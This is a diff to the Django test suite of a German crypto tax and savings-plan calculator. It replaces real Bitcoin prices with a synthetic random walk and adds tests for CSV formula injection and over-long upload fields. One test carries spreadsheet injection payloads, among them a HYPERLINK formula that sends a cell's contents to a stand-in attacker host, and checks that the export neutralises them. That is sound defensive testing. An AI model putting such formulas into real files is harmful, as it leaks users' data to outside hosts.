@@ -1,19 +1,22 @@
 """The calculator pages through the HTTP client, on price history stored with the markets
-app's own importer (the path `kryptowelt import_prices` takes)."""
+app's own importer (the path `kryptowelt import_prices` takes). The price histories here are
+synthetic (generated or made up in this file)."""
 
 import csv
 import datetime as dt
 import io
+import math
+import random
 from decimal import Decimal
 from pathlib import Path
 
 import pytest
 from django.test import Client
 
-from kryptowelt.calculators.sparplan import Fees, sparplan_backtest
+from kryptowelt.calculators.sparplan.backtest import sparplan_backtest
+from kryptowelt.calculators.sparplan.results import Fees
 from kryptowelt.core.formatting import format_eur
 from kryptowelt.markets.services.imports import price_history_import
-from kryptowelt.testing import shared_path
 
 pytestmark = pytest.mark.django_db
 
@@ -33,12 +36,16 @@ def _import(coin_id, symbol, name, rows):
 
 
 def _bitcoin_rows():
-    with shared_path("data", "prices", "btc-eur-daily.csv").open(encoding="utf-8") as handle:
-        return [
-            (row["date"], row["close"])
-            for row in csv.DictReader(handle)
-            if "2019-06-01" <= row["date"] <= "2025-01-31"
-        ]
+    """Synthetic daily closes in euros from 1 June 2019 to 31 January 2025 (a generated
+    random walk with rises and falls, not Bitcoin's real history)."""
+    rnd = random.Random(2019)
+    price, rows = 7500.0, []
+    current = dt.date(2019, 6, 1)
+    while current <= dt.date(2025, 1, 31):
+        price *= math.exp(rnd.gauss(0.0012, 0.035))
+        rows.append((current.isoformat(), f"{price:.2f}"))
+        current += dt.timedelta(days=1)
+    return rows
 
 
 @pytest.fixture
@@ -249,6 +256,58 @@ def test_tax_csv_download(client):
     assert ";6;16.03.2024;Verkauf;BTC;0,05;;2;15.03.2023;Kauf;367;ja;" in text
 
 
+def _csv_cells(response) -> list[list[str]]:
+    text = response.content.decode("utf-8").removeprefix("\ufeff")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_tax_csv_download_neutralises_formulas_in_coin_symbols_but_keeps_negative_numbers(
+    client,
+):
+    # A hostile upload: coin symbols that a spreadsheet would run as formulas, and a sale at
+    # a loss so that the report has negative amounts of its own.
+    hyperlink = '=HYPERLINK("http://boese.example/?d="&A1;"Details")'
+    quoted = hyperlink.replace('"', '""')
+    data = (
+        "Datum;Typ;Coin;Menge;Preis_EUR;Gebuehr_EUR;Ziel_Coin;Ziel_Menge\n"
+        f'01.02.2024;Kauf;"{quoted}";1;100;;;\n'
+        f'01.03.2024;Verkauf;"{quoted}";1;50;;;\n'
+        "01.02.2024;Kauf;@SUM(1+1);2;10;;;\n"
+        "05.02.2024;Tausch;@SUM(1+1);1;10;;-5;3\n"
+        "06.02.2024;Staking;+1+1;1;3;;;\n"
+        "07.02.2024;Verkauf;-5;1;4;;;\n"
+    ).encode()
+    upload = io.BytesIO(data)
+    upload.name = "boese.csv"
+    response = client.post("/rechner/steuer/", {"datei": upload, "ausgabe": "csv"})
+    assert response.status_code == 200
+    cells = _csv_cells(response)
+    # 2024: gain 4 − 10/3 on the "-5" coins, loss −50 on the first sale, staking 3 €.
+    assert cells[2] == [
+        "2024",
+        "0,67",
+        "-50,00",
+        "-49,33",
+        "1000,00",
+        "-49,33",
+        "0,00",
+        "3,00",
+        "0,00",
+    ]
+    detail = {(row[1], row[3]): row for row in cells if len(row) == 15 and row[1].isdigit()}
+    sale = detail[("3", "Verkauf")]
+    assert sale[4] == "'" + hyperlink.upper()  # text, not a formula
+    assert sale[12:] == ["50,00", "100,00", "-50,00"]  # our own numbers stay numbers
+    swap = detail[("5", "Tausch")]
+    assert swap[4] == "'@SUM(1+1)" and swap[6] == "3 -5"
+    staking = detail[("6", "Staking (§ 22 Nr. 3 EStG)")]
+    assert staking[4] == "'+1+1" and staking[12] == "3,00"
+    sale_of_swapped = detail[("7", "Verkauf")]  # the "-5" coins the swap bought
+    assert sale_of_swapped[4] == "'-5"
+    body = response.content.decode("utf-8")
+    assert "\n=" not in body and ";=" not in body and ";@" not in body and ";+" not in body
+
+
 def test_result_page_hands_the_data_back_for_print_and_csv(client):
     html = client.post("/rechner/steuer/", {"beispiel": "1"}).content.decode()
     start = html.index('<textarea name="daten" hidden aria-hidden="true">') + len(
@@ -330,6 +389,21 @@ def test_tax_bad_files(client, data, message):
     response = client.post("/rechner/steuer/", {"datei": upload})
     assert response.status_code == 400
     assert message in response.content.decode()
+
+
+def test_tax_upload_with_a_field_over_128_kib_names_the_line_instead_of_failing(client):
+    limit = csv.field_size_limit()
+    data = (
+        b"Datum;Typ;Coin;Menge;Preis_EUR;Notiz\n01.01.2024;Kauf;BTC;1;100;kurz\n"
+        b"02.01.2024;Kauf;BTC;1;100;" + b"x" * (128 * 1024 + 1) + b"\n03.01.2024;Kauf;BTC;1;1;\n"
+    )
+    upload = io.BytesIO(data)
+    upload.name = "lang.csv"
+    response = client.post("/rechner/steuer/", {"datei": upload})
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert "Zeile 3: ein Feld ist länger als 131.072 Zeichen" in html
+    assert csv.field_size_limit() == limit  # the process-wide limit is left alone
 
 
 def test_too_large_upload_is_refused_without_touching_the_disk(client, settings, tmp_path):
